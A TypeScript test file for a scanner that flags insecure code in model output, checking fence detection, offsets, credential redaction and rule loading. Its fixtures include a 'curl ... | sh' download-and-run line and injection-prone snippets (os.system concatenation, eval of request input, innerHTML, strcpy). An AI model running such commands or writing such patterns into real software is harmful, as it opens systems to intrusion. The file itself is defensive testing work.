import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { createCodeScanner } from "./code-scanner.ts";
import { languages } from "./languages.ts";
import { loadRules } from "./load-rules.ts";
import { createCodeReader } from "./read-code.ts";
import { codeRules } from "./rules/all-rules.ts";

const scanner = createCodeScanner(await createCodeReader());
const { signal } = new AbortController();
const scan = async (text: string, language?: string) =>
  (await scanner.scan({ text, kind: "output", ...(language !== undefined && { language }) }, signal)).findings;
const rulesIn = async (text: string, language?: string) => (await scan(text, language)).map(({ rule }) => rule);

describe("finds code", () => {
  test.each([
    {
      why: "in a fence that names it",
      text: "Do this:\n```py\nimport os\nos.system('ls ' + d)\n```\n",
      want: ["python.command-injection"],
    },
    {
      why: "in a fence that names nothing",
      text: "Do this:\n```\nimport os\nos.system('ls ' + d)\n```\n",
      want: ["python.command-injection"],
    },
    {
      why: "in each of several fences",
      text: "```js\nel.innerHTML = x;\n```\nand\n~~~sh\ncurl https://a.example/i | sh\n~~~\n",
      want: ["javascript.xss", "shell.run-download"],
    },
    { why: "in a fence that is never closed", text: "```php\neval($_GET['x']);", want: ["php.code-injection"] },
    { why: "in a quoted fence", text: "> ```sql\n> GRANT ALL ON shop TO web;\n> ```\n", want: ["sql.grant-all"] },
    {
      why: "bare between sentences",
      text: "You may call it in this way.\n\nchar b[8];\nstrcpy(b, argv[1]);\n\nThat copies the first argument into it.",
      want: ["c.unbounded-copy"],
    },
    {
      why: "in the language that the caller names",
      text: "os.system(cmd)",
      language: "Python",
      want: ["python.command-injection"],
    },
    { why: "not in a mention between backticks", text: "Never call `eval(text)` on what a user typed.", want: [] },
    {
      why: "not in prose that talks of it",
      text: "The system executes a query. Please select a user from the list and drop the rest.",
      want: [],
    },
    { why: "not in plain data", text: '```json\n{"password": "hunter22", "verify": false}\n```', want: [] },
  ])("$why", async ({ text, language, want }) => {
    expect(await rulesIn(text, language)).toEqual(want);
  });
});

test("offsets point at the text that was given", async () => {
  const text = 'Ünï 😀\n\n```php\n$x = 1;\nunserialize($_COOKIE["a"]);\n```\n';
  const [finding] = await scan(text);
  expect(text.slice(finding!.start, finding!.end)).toBe('unserialize($_COOKIE["a"])');
});

test("a finding says what is wrong and quotes nothing", async () => {
  const [finding] = await scan('```py\npassword = "Gr8-secret-1"\n```');
  expect(finding).toMatchObject({ rule: "python.hard-coded-credential", why: expect.stringContaining("CWE-798") });
  expect(JSON.stringify(finding)).not.toContain("Gr8-secret");
});

test("code that is too long to be read is flagged", async () => {
  const outcome = await scanner.scan({ text: `\`\`\`py\n${"x = 1\n".repeat(40_000)}\`\`\``, kind: "output" }, signal);
  expect(outcome).toMatchObject({ flagged: true, findings: [{ rule: "code.unread" }] });
});

test.each(["(", "[{", "a(", "if x:\n ", "`", "```", "${", "<?php ", "'", "/*", "{{{{\n", "\0", "\ud800", "a.b.c("])(
  "answers for a long run of %j",
  async (part) => {
    for (const language of [undefined, ...languages]) {
      expect(await scan(part.repeat(5000 / part.length), language)).toBeInstanceOf(Array);
    }
  },
);

test("answers for any text", async () => {
  const noise = fc.oneof(
    fc.string({ unit: "binary", maxLength: 300 }),
    fc.tuple(fc.constantFrom(...codeRules), fc.nat(), fc.string({ maxLength: 5 })).map(([{ insecure }, at, put]) => {
      const cut = at % (insecure.length + 1);
      return insecure.slice(0, cut) + put + insecure.slice(cut + 2);
    }),
  );
  const property = fc.asyncProperty(
    noise,
    fc.option(fc.constantFrom(...languages, "cobol", "__proto__"), { nil: undefined }),
    async (text, language) => {
      for (const { start = 0, end = 0 } of await scan(text, language))
        expect(0 <= start && start <= end && end <= text.length).toBe(true);
    },
  );
  await fc.assert(property, { numRuns: 300 });
});

test("stops when it is told to", async () => {
  await expect(
    scanner.scan({ text: "```py\neval(x)\n```", kind: "output" }, AbortSignal.abort(new Error("over"))),
  ).rejects.toThrow("over");
});

describe("a rule that does not load stops the start", () => {
  const [rule] = codeRules;
  test.each([
    { why: "is there twice", rules: [...codeRules, rule!] },
    { why: "has no example", rules: [...codeRules, { ...rule!, id: "python.other", secure: " " }] },
    { why: "finds nothing", rules: [...codeRules, { ...rule!, id: "python.other", find: [] }] },
    { why: "is of another language", rules: [...codeRules, { ...rule!, id: "perl.other" }] },
    { why: "is missing for a language", rules: codeRules.filter(({ language }) => language !== "go") },
  ])("$why", ({ rules }) => {
    expect(() => loadRules(rules)).toThrow(/code rule/);
  });
  test("every language has eight or more", () => {
    for (const [language, rules] of loadRules(codeRules))
      expect([language, rules.length >= 8]).toEqual([language, true]);
  });
});
